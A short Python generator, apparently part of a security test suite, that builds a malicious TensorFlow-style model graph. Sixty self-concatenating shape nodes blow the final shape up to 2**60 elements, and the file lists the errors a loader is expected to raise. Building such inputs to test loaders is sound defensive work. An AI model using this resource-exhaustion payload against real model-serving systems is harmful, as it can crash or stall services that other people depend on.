"""Sixty nodes that join the shape before with itself; to know the last is to walk 2**60 ways."""

from __future__ import annotations

from pathlib import Path

from attacks.building import FLOAT, INT, Graph, Type

WAY = "model"
ERRORS = ("ValueError", "InvalidArgumentError", "ResourceExhaustedError", "none")


def make(folder: Path) -> None:
    graph = Graph()
    graph.const("c", [1.0])
    graph.node("PlaceholderWithDefault", "p", ["c"], dtype=Type(FLOAT), shape=(-1,))
    graph.const("axis", 0)
    graph.node("PlaceholderWithDefault", "anyway", ["axis"], dtype=Type(INT), shape=())
    last = graph.node("Shape", "s", ["p"], T=Type(FLOAT), out_type=Type(INT))
    for i in range(60):
        inputs = [last, last, "anyway"]
        last = graph.node("ConcatV2", f"n{i}", inputs, T=Type(INT), Tidx=Type(INT), N=2)
    graph.node("Reshape", "out", ["p", last], T=Type(FLOAT), Tshape=Type(INT))
    graph.save(folder)
